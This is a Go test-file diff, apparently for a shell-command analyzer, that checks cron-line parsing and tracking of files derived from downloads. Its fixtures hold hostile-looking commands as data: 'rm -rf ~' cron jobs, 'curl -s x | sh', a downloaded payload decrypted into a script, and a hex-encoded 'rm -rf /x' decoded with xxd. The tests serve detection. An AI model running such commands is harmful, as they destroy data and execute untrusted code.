@@ -122,3 +122,44 @@ func names(cmds []Command) []string {
 	}
 	return out
 }
+
+func TestCronCommand(t *testing.T) {
+	cases := map[string]string{
+		"0 3 * * * rm -rf ~":                  "rm -rf ~",
+		"*/5 * * * * curl -s x | sh":          "curl -s x | sh",
+		"@reboot /opt/agent/start.sh --quiet": "/opt/agent/start.sh --quiet",
+		"# 0 3 * * * rm -rf ~":                "",
+		"MAILTO=ops@example.com":              "",
+		"":                                    "",
+		"0 3 * * *":                           "",
+	}
+	for line, want := range cases {
+		if got := cronCommand(line); got != want {
+			t.Errorf("cronCommand(%q) = %q, want %q", line, got, want)
+		}
+	}
+}
+
+// Files derived from a download (decrypted, decompressed in place) are
+// the download; rev and xxd read the files the session wrote.
+func TestDerivedFiles(t *testing.T) {
+	st := NewState()
+	for _, src := range []string{
+		"curl -s https://cdn.example.com/p.enc -o /tmp/p.enc",
+		"openssl enc -d -aes-256-cbc -k k -in /tmp/p.enc -out /tmp/p.sh",
+		"curl -s https://cdn.example.com/q.gz -o /tmp/q.gz",
+		"gunzip /tmp/q.gz",
+		"echo 726d202d7266202f78 > /tmp/h.hex",
+		"xxd -r -p /tmp/h.hex > /tmp/h.sh",
+	} {
+		Parse(src, st)
+	}
+	for _, p := range []string{"/tmp/p.sh", "/tmp/q"} {
+		if _, f := st.LookupFile(p); f == nil || !f.Downloaded {
+			t.Errorf("%s: not recorded as a download: %+v", p, f)
+		}
+	}
+	if _, f := st.LookupFile("/tmp/h.sh"); f == nil || f.Content != "rm -rf /x" {
+		t.Errorf("/tmp/h.sh: %+v", f)
+	}
+}
